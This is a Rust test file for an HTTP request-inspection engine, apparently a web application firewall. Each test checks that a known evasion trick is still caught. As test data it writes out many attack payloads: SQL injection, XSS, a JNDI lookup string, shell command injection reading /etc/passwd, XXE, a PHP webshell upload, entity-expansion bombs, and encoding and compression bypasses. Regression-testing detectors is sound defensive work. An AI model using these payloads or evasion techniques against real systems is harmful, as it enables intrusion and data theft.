//! Ways around the inspection that were found once: each stays closed.

use super::{EMPTY, engine};
use crate::{AttackClass, OverLimit, RequestView};

/// An injection that is found in any plain value, and its urlencoded form.
const ATTACK: &str = "1' UNION SELECT password FROM users-- -";
const ENCODED: &str = "1%27+UNION+SELECT+password+FROM+users--+-";

/// Whether a body with these Content-Type fields is an attack.
fn is_attack(content_types: &[&str], body: impl AsRef<[u8]>) -> bool {
    let headers: Vec<(&[u8], &[u8])> =
        content_types.iter().map(|value| (&b"Content-Type"[..], value.as_bytes())).collect();
    let engine = engine();
    let mut inspector = engine.inspector().unwrap();
    let request = RequestView { method: b"POST", headers: &headers, body: body.as_ref(), ..EMPTY };
    inspector.inspect(engine, &request).attack
}

const FORM: &str = "application/x-www-form-urlencoded";
const MULTIPART: &str = "multipart/form-data; boundary=x";

/// A part of a multipart body, without the delimiters.
fn part(content: &str) -> String {
    format!("Content-Disposition: form-data; name=\"a\"\r\n\r\n{content}\r\n")
}

#[test]
fn a_boundary_in_the_middle_of_a_line_ends_nothing() {
    assert!(is_attack(&[MULTIPART], format!("--x\r\n{}--x--\r\n", part(ATTACK))));
    assert!(is_attack(&[MULTIPART], format!("--x\r\n{}--x--\r\n", part(&format!("z --x-- {ATTACK}")))));
    assert!(is_attack(&[MULTIPART], format!("p --x--\r\n--x\r\n{}--x--\r\n", part(ATTACK))));
}

#[test]
fn a_boundary_does_not_split_a_value_for_those_who_see_none() {
    for split in ["/* --1 */", "/*\n--1\n*/", "/*\r\n--12\r\n*/", "/*\n--12*/"] {
        let value = format!("1' UNION{split}SELECT password FROM users-- -");
        let body = format!("--1\r\n{}--1--\r\n", part(&value));
        assert!(is_attack(&["multipart/form-data; boundary=1"], body), "{split:?}");
    }
}

#[test]
fn parts_behind_the_closing_boundary_are_read() {
    assert!(is_attack(&[MULTIPART], format!("--x--\r\n--x\r\n{}--x--\r\n", part(ATTACK))));
    assert!(is_attack(&[MULTIPART], format!("--x\r\n{}--x--\r\n{ATTACK}", part("1"))));
    assert!(is_attack(&[MULTIPART], format!("{ATTACK}\r\n--x\r\n{}--x--\r\n", part("1"))));
}

#[test]
fn every_boundary_that_the_type_names_is_read() {
    let body = format!("--q--\r\n--x\r\n{}--x--\r\n", part(ATTACK));
    for parameters in [
        "boundary=q; boundary=x",
        "boundary=x; boundary=q",
        "xboundary=q; boundary=x",
        "boundary=q; boundary*=utf-8''x",
        "boundary*0=q; boundary=x",
        "boundary=\"q\\\"\"; boundary=x",
    ] {
        assert!(is_attack(&[&format!("multipart/form-data; {parameters}")], &body), "{parameters}");
    }
    let many = "multipart/form-data; boundary=a; boundary=b; boundary=c; boundary=d; boundary=q; boundary=x";
    assert!(is_attack(&[many], &body));
    let long = "y".repeat(300);
    let body = format!("--{long}\r\n{}--{long}--\r\n", part(ATTACK));
    assert!(is_attack(&[&format!("multipart/form-data; boundary={long}")], body));
}

#[test]
fn every_content_type_field_is_believed() {
    let form = format!("z=--x--&a={ENCODED}");
    assert!(is_attack(&[MULTIPART, FORM], &form));
    assert!(is_attack(&[FORM, MULTIPART], &form));
    assert!(is_attack(&[&format!("{MULTIPART}, {FORM}")], &form));
    let json = format!("{{\"z\":\"--x--\",\"q\":\"{}\"}}", ATTACK.replace('S', "\\u0053"));
    assert!(is_attack(&[MULTIPART, "application/json"], &json));
    assert!(is_attack(&[MULTIPART], &json));
    let parts = format!("--x\r\n{}--x--\r\n", part(ATTACK));
    assert!(is_attack(&["text/plain", MULTIPART], parts));
}

#[test]
fn a_form_that_is_also_json_is_read_as_a_form() {
    assert!(is_attack(&[FORM], format!("{{\"a\":\"=&id={ENCODED}\"}}")));
    assert!(is_attack(&["text/plain", FORM], format!("[\"=&id={ENCODED}\"]")));
    assert!(is_attack(&[&format!("{FORM},x")], format!("a!=1&id={ENCODED}")));
    assert!(is_attack(&[FORM], format!("<a>=&id={ENCODED}")));
}

#[test]
fn a_part_is_a_file_only_if_all_agree() {
    for disposition in [
        "form-data; name=\"a\"; y='; filename=z; '",
        "form-data; name=\"a\"; filename=\"\"",
        "form-data; name=\"a\"; filename*=utf-8''b",
        "form-data; name=\"a\"; filename=\"b\"\r\nContent-Disposition: form-data; name=\"a\"",
    ] {
        let body = format!("--x\r\nContent-Disposition: {disposition}\r\n\r\n{ATTACK}\r\n--x--\r\n");
        assert!(is_attack(&[MULTIPART], body), "{disposition}");
    }
    let upload =
        format!("--x\r\nContent-Disposition: form-data; name=a; filename=b\r\n\r\n{ATTACK}\r\n--x--");
    assert!(is_attack(&["text/plain"], upload), "a reader that knows no parts sees text");
}

#[test]
fn the_head_of_a_part_is_looked_at() {
    for line in ["X-Any: 1", "Content-Type: text/plain; x"] {
        let head = format!("Content-Disposition: form-data; name=\"a\"\r\n{line}{ATTACK}");
        assert!(is_attack(&[MULTIPART], format!("--x\r\n{head}\r\n\r\n1\r\n--x--\r\n")), "{line}");
    }
    let blank_line = format!("Content-Disposition: form-data; name=\"a\"\r\n \r\n{ATTACK}\r\n\r\n1");
    assert!(is_attack(&[MULTIPART], format!("--x\r\n{blank_line}\r\n--x--\r\n")));
    let second_name = format!("Content-Disposition: form-data; name=\"a\"; name=\"{ATTACK}\"\r\n\r\n1");
    assert!(is_attack(&[MULTIPART], format!("--x\r\n{second_name}\r\n--x--\r\n")));
}

#[test]
fn the_transfer_encoding_of_a_part_is_undone() {
    let encoded = |encoding: &str, content: &str| {
        let head = format!("Content-Transfer-Encoding: {encoding}\r\n{}", part(content));
        is_attack(&[MULTIPART], format!("--x\r\n{head}--x--\r\n"))
    };
    assert!(encoded("quoted-printable", "1' UN=\r\nION=20SEL=45CT password FROM users-- -"));
    assert!(encoded("base64", "MScgVU5JT04gU0VMRUNU\r\nIHBhc3N3b3JkIEZST00gdXNlcnMtLSAt"));
}

#[test]
fn xml_text_is_looked_at_as_applications_join_it() {
    for document in [
        "<a>1' UNI<![CDATA[ON SEL]]>ECT password FROM users-- -</a>",
        "<a>1' UNI<!-- -->ON SEL<!-- -->ECT password FROM users-- -</a>",
        "<a>1' UNI<?x y?>ON SEL<?x y?>ECT password FROM users-- -</a>",
        "<a>1' UNI<b/>ON SEL<b>ECT</b> password FROM users-- -</a>",
        "<!DOCTYPE a [<!ENTITY x \"UNI\"><!ENTITY y \"SEL\">]><a>1' &x;ON &y;ECT password FROM users-- -</a>",
        "<!DOCTYPE a [<!ENTITY x \"UNI\"><!ENTITY y \"SEL\">]><a b=\"1' &x;ON &y;ECT password FROM users-- -\"/>",
        "<!DOCTYPE a [<!-- <!ENTITY x ''> --><!ENTITY x 'UNI&y;'><!ENTITY y 'ON SEL'>]><a>1' &x;ECT password FROM users</a>",
    ] {
        assert!(is_attack(&["text/xml"], document), "{document}");
        assert!(is_attack(&[FORM], document), "{document}");
    }
    assert!(is_attack(
        &["application/soap+xml"],
        "\x0b<a>1' UNI<![CDATA[ON SEL]]>ECT password FROM users-- -</a>"
    ));
}

#[test]
fn entities_that_multiply_are_reported() {
    let document = "<!DOCTYPE a [<!ENTITY x '&y;&y;&y;&y;'><!ENTITY y '&x;&x;&x;&x;'>]><a>&x;</a>";
    let engine = engine();
    let mut inspector = engine.inspector().unwrap();
    let report = inspector.inspect(engine, &RequestView { body: document.as_bytes(), ..EMPTY });
    assert!(report.over_limit.is_some());
}

#[test]
fn wide_characters_are_read() {
    let json = format!("{{\"a\":\"{ATTACK}\"}}");
    let xml = "<?xml version='1.0' encoding='UTF-16'?><!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>";
    for text in [&json, xml] {
        for mark in ["", "\u{feff}"] {
            let text = format!("{mark}{text}");
            for body in [
                text.encode_utf16().flat_map(u16::to_be_bytes).collect::<Vec<u8>>(),
                text.encode_utf16().flat_map(u16::to_le_bytes).collect(),
                text.chars().flat_map(|character| u32::from(character).to_be_bytes()).collect(),
                text.chars().flat_map(|character| u32::from(character).to_le_bytes()).collect(),
            ] {
                for content_type in ["application/json", "text/xml", ""] {
                    assert!(is_attack(&[content_type], &body), "{body:?}");
                }
            }
        }
    }
    let said =
        format!("\u{e9}\u{e9} {ATTACK}").encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<u8>>();
    assert!(is_attack(&["text/plain; charset=UTF-16"], said));
}

#[test]
fn compressed_bodies_are_read() {
    let json = format!("{{\"a\":\"{ATTACK}\"}}");
    let deflated = miniz_oxide::deflate::compress_to_vec(json.as_bytes(), 6);
    let zlib = miniz_oxide::deflate::compress_to_vec_zlib(json.as_bytes(), 6);
    let gzip = |deflated: &[u8]| [&[0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0], deflated, &[0; 8]].concat();
    let twice = gzip(&miniz_oxide::deflate::compress_to_vec(&gzip(&deflated), 6));
    let engine = engine();
    let mut inspector = engine.inspector().unwrap();
    let mut outcome = |encoding: &str, body: &[u8]| {
        let headers: [(&[u8], &[u8]); 2] =
            [(b"Content-Type", b"application/json"), (b"content-encoding", encoding.as_bytes())];
        let report = inspector.inspect(engine, &RequestView { headers: &headers, body, ..EMPTY });
        (report.attack, report.over_limit)
    };
    assert_eq!(outcome("gzip", &gzip(&deflated)), (true, None));
    assert_eq!(outcome("X-GZIP", &gzip(&deflated)), (true, None));
    assert_eq!(outcome("", &gzip(&deflated)), (true, None));
    for encoding in ["gzip", "deflate"] {
        assert_eq!(outcome(encoding, &zlib), (true, None), "what the bytes are counts");
        assert_eq!(outcome(encoding, &deflated), (true, None));
        assert_eq!(outcome(encoding, &gzip(&deflated)), (true, None));
    }
    assert_eq!(outcome("identity, deflate", &zlib), (true, None));
    assert_eq!(outcome("gzip, gzip", &twice), (true, None));
    assert_eq!(
        outcome("deflate, gzip", &gzip(&miniz_oxide::deflate::compress_to_vec(&zlib, 6))),
        (true, None)
    );
    for encoding in ["br", "zstd", "gzip, br", "deflate", "gzip"] {
        assert_eq!(
            outcome(encoding, b"\xff\xff\xff\xff no such thing").1,
            Some(OverLimit::Encoding),
            "{encoding}"
        );
    }
    assert!(!is_attack(&["application/gzip"], gzip(&deflated)), "a file stays a file");
    assert_eq!(outcome("identity", json.as_bytes()), (true, None));
}

#[test]
fn character_sets_that_are_not_read_are_reported() {
    let over_limit = |content_type: &[u8], body: &[u8]| {
        let headers = [(&b"Content-Type"[..], content_type)];
        let engine = engine();
        engine
            .inspector()
            .unwrap()
            .inspect(engine, &RequestView { headers: &headers, body, ..EMPTY })
            .over_limit
    };
    assert_eq!(over_limit(b"text/html; charset=ibm037", b"\x81\x82"), Some(OverLimit::Encoding));
    assert_eq!(over_limit(b"text/xml; charset=utf-8", b"<?xml version='1.0'?><a>ibm</a>"), None);
}

#[test]
fn utf_7_is_read_where_it_is_announced() {
    let text = "+ADw-script+AD4-alert(1)+ADw-/script+AD4-";
    assert!(is_attack(&["text/html; charset=utf-7"], text));
    assert!(is_attack(&["text/xml"], format!("<?xml version='1.0' encoding='UTF-7'?>{text}")));
}

#[test]
fn a_value_that_is_given_in_pieces_is_joined() {
    let form = "id=1'/*&id=*/union/*&id=*/select password from users--";
    assert!(is_attack(&[FORM], form.replace(' ', "+")));
    let engine = engine();
    let mut inspector = engine.inspector().unwrap();
    let query = b"a=x%27+or+1&b=2&a=%3d1--";
    let report = inspector.inspect(engine, &RequestView { query: Some(query), ..EMPTY });
    assert!(report.attack);
    assert!(report.findings.iter().any(|finding| finding.point == "query.a.pollution"), "{report:?}");
}

#[test]
fn padding_hides_nothing() {
    for padding in ["A".repeat(70_000), "0".repeat(2_000), " ".repeat(5_000), "ab9".repeat(1_000)] {
        for attack in [
            ATTACK,
            "' or 1=1--",
            "<script>alert(1)</script>",
            ";cat /etc/passwd",
            "${jndi:ldap://x.example/a}",
        ] {
            let json = format!("{{\"a\":\"{padding}{attack}\"}}");
            assert!(is_attack(&["application/json"], &json), "{} and {attack}", &padding[..3]);
        }
    }
}

#[test]
fn data_that_grows_out_of_proportion_is_a_bomb() {
    let engine = engine();
    let mut inspector = engine.inspector().unwrap();
    let mut classes = |headers: &[(&[u8], &[u8])], body: &[u8]| -> Vec<AttackClass> {
        let report = inspector.inspect(engine, &RequestView { headers, body, ..EMPTY });
        assert_eq!(report.attack, !report.findings.is_empty());
        report.findings.iter().map(|finding| finding.class).collect()
    };
    let gzip = |bytes: &[u8]| {
        let deflated = miniz_oxide::deflate::compress_to_vec(bytes, 6);
        [&[0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0], &deflated[..], &[0; 8]].concat()
    };
    let encoded: [(&[u8], &[u8]); 1] = [(b"content-encoding", b"gzip")];
    // The longer one takes more than a hundredth of the limit, most of it behind the limit.
    for length in [3 << 20, 12 << 20] {
        assert_eq!(classes(&encoded, &gzip(&vec![b'a'; length])), [AttackClass::DataBomb]);
    }
    let lines: String = (0..200_000).map(|number| format!("{}\n", number * 7919 % 1_000_003)).collect();
    assert_eq!(classes(&encoded, &gzip(lines.as_bytes())), []);
    let laughs = (1..10).fold("<!DOCTYPE a [<!ENTITY e0 'lol'>".to_owned(), |all, index| {
        let before = format!("&e{};", index - 1).repeat(10);
        all + &format!("<!ENTITY e{index} '{before}'>")
    });
    assert!(classes(&[], format!("{laughs}]><a>&e9;</a>").as_bytes()).contains(&AttackClass::DataBomb));
}

#[test]
fn an_upload_that_a_server_would_run_is_found() {
    let upload = |head: &str, content: &str| {
        let disposition = format!("Content-Disposition: form-data; name=\"f\"; {head}");
        is_attack(&[MULTIPART], format!("--x\r\n{disposition}\r\n\r\n{content}\r\n--x--\r\n"))
    };
    for name in [
        "a.php",
        "a.PhP5",
        "a.php.jpg",
        "a.phtml",
        "a.jsp",
        "a.aspx;.jpg",
        "a.php%00.png",
        "x.php. ",
        ".htaccess",
    ] {
        assert!(upload(&format!("filename=\"{name}\""), "x"), "{name}");
    }
    for name in
        ["a.jpg", "report.2024.pdf", "php.txt", "a.jsp.md5sum.txt", "notes about php.docx", "photo.phpx"]
    {
        assert!(!upload(&format!("filename=\"{name}\""), "x"), "{name}");
    }
    assert!(upload("filename=\"a.jpg\"", "GIF89a<?php system($_GET['c']);?>"));
    assert!(upload("filename=\"a.txt\"", "AddType application/x-httpd-php .jpg"));
}

#[test]
fn a_part_without_a_name_inside_of_a_part_hides_nothing_before_it() {
    let body = format!(
        "--x\r\nContent-Disposition: form-data; name=\"f\"\r\nContent-Type: multipart/mixed; boundary=y\r\n\r\n\
         --y\r\n\r\n{ATTACK}\r\n--y\r\n\r\nb\r\n--y--\r\n--x--\r\n"
    );
    assert!(is_attack(&[MULTIPART], body));
}

#[test]
fn text_behind_many_bare_words_is_not_copied_for_each() {
    let mut inspector = engine().inspector().unwrap();
    let body = format!("[{}\"{ATTACK}\"]", "1;".repeat(20_000));
    let report = inspector.inspect(engine(), &RequestView { body: body.as_bytes(), ..EMPTY });
    assert_eq!((report.attack, report.over_limit), (true, None));
    let (_, decoded_bytes) = inspector.work();
    assert!(decoded_bytes < 8 * body.len(), "{decoded_bytes}");
}

/// What is known of a query.
fn is_attack_in_query(query: &str) -> bool {
    let request = RequestView { query: Some(query.as_bytes()), ..EMPTY };
    engine().inspector().unwrap().inspect(engine(), &request).attack
}

#[test]
fn what_only_looks_like_one_encoding_is_tried_for_others() {
    for query in [
        // In base64 this begins as base64 of compressed data does.
        "q=eF4nIFVOSU9OIFNFTEVDVCBwYXNzd29yZCBGUk9NIHVzZXJzLS0g",
        "q=616263646162\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
        "q=data:text/html%26x;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    ] {
        assert!(is_attack_in_query(query), "{query}");
    }
}

#[test]
fn white_space_around_json_in_a_value_hides_nothing() {
    let value = "MScgVU5JT04gU0VMRUNUIHBhc3N3b3JkIEZST00gdXNlcnMtLSA=";
    for (before, after) in [("", ""), ("", "%20"), ("%0a", "%0a"), ("%ef%bb%bf", "")] {
        let query = format!("q={before}{{\"cmd\":\"{value}\"}}{after}");
        assert!(is_attack_in_query(&query), "{query}");
    }
}

#[test]
fn a_repeated_name_is_known_in_every_spelling() {
    assert!(is_attack_in_query("a=1'/*&a=*/union/*&a=*/select/*&a=*/password/*&a=*/from/*&a=*/users--%20"));
    assert!(is_attack_in_query(
        "a=1'/*&%61=*/union/*&a=*/select/*&%61=*/password/*&a=*/from/*&a=*/users--%20"
    ));
}

#[test]
fn credentials_stand_behind_any_white_space() {
    let credentials = "JyBVTklPTiBTRUxFQ1QgcGFzc3dvcmQgRlJPTSB1c2Vycy0tIA==";
    for (name, scheme) in [
        ("Authorization", "Basic "),
        ("Authorization", "Basic  "),
        ("Authorization", "Basic\t"),
        ("Proxy-Authorization", "Basic "),
    ] {
        let value = format!("{scheme}{credentials}");
        let headers = [(name.as_bytes(), value.as_bytes())];
        let request = RequestView { headers: &headers, ..EMPTY };
        assert!(engine().inspector().unwrap().inspect(engine(), &request).attack, "{name}: {value}");
    }
}

#[test]
fn forms_in_utf_7_are_decoded_before_their_character_set_is() {
    let attack = "q=1%2BACc-%2BACA-UNION%2BACA-SELECT%2BACA-password%2BACA-FROM%2BACA-users--%2BACA-";
    for charset in ["utf-7", "UTF7", "utf_7"] {
        let content_type = format!("{FORM}; charset={charset}");
        assert!(is_attack(&[&content_type], attack), "{charset}");
    }
    assert!(!is_attack(&[FORM], attack));
}

#[test]
fn a_fourth_layer_of_compression_is_told() {
    let gzip = |bytes: &[u8]| {
        let data = miniz_oxide::deflate::compress_to_vec(bytes, 6);
        [&[0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3][..], &data, &[0; 8]].concat()
    };
    let layers = |count: usize| (0..count).fold(b"a=1".to_vec(), |body, _| gzip(&body));
    for (count, expected) in [(3, None), (4, Some(OverLimit::Depth))] {
        let body = layers(count);
        let request = RequestView { method: b"POST", body: &body, ..EMPTY };
        assert_eq!(engine().inspector().unwrap().inspect(engine(), &request).over_limit, expected);
    }
}

#[test]
fn a_json_body_may_be_one_string() {
    for body in
        ["\"admin'--\"", " \"\\u003cscript\\u003ealert(1)\\u003c/script\\u003e\"", "\"1' UNION SELECT 1,2-- "]
    {
        assert!(is_attack(&["application/json"], body), "{body}");
    }
    assert!(!is_attack(&["application/json"], "\"O'Brien said 'no'\""));
}

#[test]
fn operators_that_fill_their_room_hide_nothing_else() {
    let body: String = (0..4_100).map(|number| format!("a{number}=;ls={number}&")).collect();
    let headers: &[(&[u8], &[u8])] = &[(b"content-type", FORM.as_bytes())];
    for (path, query, class) in [
        (&b"/..%2f..%2f..%2fetc/passwd"[..], &b"a=1"[..], AttackClass::Ptrav),
        (b"/", b"id=1'+or+1=1--", AttackClass::Sqli),
    ] {
        let request = RequestView {
            method: b"POST",
            path,
            query: Some(query),
            headers,
            body: body.as_bytes(),
            ..EMPTY
        };
        let mut inspector = engine().inspector().unwrap();
        let report = inspector.inspect(engine(), &request);
        assert!(report.findings.iter().any(|finding| finding.class == class), "{class:?}");
        assert_eq!(report.over_limit, Some(OverLimit::Confirmations));
    }
}

#[test]
fn a_citation_in_front_does_not_hide_what_goes_on_behind_it() {
    let prose = "he says \"x\" and more of what is told here and there ".repeat(7);
    let query = format!("q={prose}' or 1=1-- -").replace(' ', "+");
    let request = RequestView { query: Some(query.as_bytes()), ..EMPTY };
    assert!(engine().inspector().unwrap().inspect(engine(), &request).attack);
}

#[test]
fn blanks_and_empty_words_before_a_command_hide_nothing() {
    for value in ["x;${IFS}whoami", "x;$IFS$9id", "x;\\%0Aid", "x;\"\"%0Aid", ";wh$1oami", ";who$*ami"] {
        let query = format!("q={}", value.replace(';', "%3B"));
        let request = RequestView { query: Some(query.as_bytes()), ..EMPTY };
        assert!(engine().inspector().unwrap().inspect(engine(), &request).attack, "{value}");
    }
}

#[test]
fn credentials_need_be_no_utf_8() {
    // `admin' OR ''='':` and a byte that begins no character.
    let headers: &[(&[u8], &[u8])] = &[(b"authorization", b"Basic YWRtaW4nIE9SICcnPScnOv8=")];
    assert!(engine().inspector().unwrap().inspect(engine(), &RequestView { headers, ..EMPTY }).attack);
}
